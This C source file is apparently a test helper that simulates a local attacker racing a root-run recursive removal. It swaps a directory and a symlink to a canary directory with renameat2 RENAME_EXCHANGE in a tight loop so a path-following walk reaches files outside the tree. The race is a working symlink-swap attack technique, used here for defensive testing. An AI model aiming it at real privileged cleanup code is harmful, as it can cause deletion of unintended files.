/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * swap-race: the local attacker of issue 10 against a rootfs that root
 * removes.  Run as the attacking uid:
 *
 *   swap-race DIR CANARY SECONDS
 *
 * makes DIR/x/dir (files named like CANARY's) and DIR/x/link (a symlink to
 * CANARY), prints "ready" on stdout, then swaps the two with renameat2
 * RENAME_EXCHANGE in a tight loop — a path-following walk then reaches
 * CANARY's files through "dir" — and puts a new symlink back wherever the
 * walk removed one.  Stops when x has been removed or after SECONDS.  Exit
 * status: 0 after a race, 2 if DIR cannot be reached or written (printed).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	long swaps = 0;
	struct stat st;
	DIR *canary;
	struct dirent *de;
	time_t end;
	int x;

	if (argc != 4) {
		fprintf(stderr, "usage: swap-race DIR CANARY SECONDS\n");
		return 64;
	}
	end = time(NULL) + atoi(argv[3]);
	if (chdir(argv[1]) < 0 || mkdir("x", 0755) < 0 || (x = open("x", O_RDONLY | O_DIRECTORY)) < 0 ||
	    mkdirat(x, "dir", 0755) < 0) {
		printf("cannot set up in '%s': %s\n", argv[1], strerror(errno));
		return 2;
	}
	canary = opendir(argv[2]);
	while (canary && (de = readdir(canary))) {
		int fd;

		if (de->d_name[0] == '.')
			continue;
		fd = openat(x, "dir", O_RDONLY | O_DIRECTORY);
		if (fd >= 0) {
			close(openat(fd, de->d_name, O_WRONLY | O_CREAT, 0644));
			close(fd);
		}
	}
	if (canary)
		closedir(canary);
	if (symlinkat(argv[2], x, "link") < 0) {
		printf("cannot set up in '%s': %s\n", argv[1], strerror(errno));
		return 2;
	}
	printf("ready\n");
	fflush(stdout);
	while (time(NULL) < end) {
		for (int i = 0; i < 1000; i++) {
			if (renameat2(x, "dir", x, "link", RENAME_EXCHANGE) == 0) {
				swaps++;
				continue;
			}
			/* the walk removed one of them: a new symlink in its place */
			symlinkat(argv[2], x, "link");
			symlinkat(argv[2], x, "dir");
		}
		if (fstat(x, &st) < 0 || st.st_nlink == 0)
			break;	/* x is gone */
	}
	fprintf(stderr, "swap-race: %ld swaps\n", swaps);
	return 0;
}
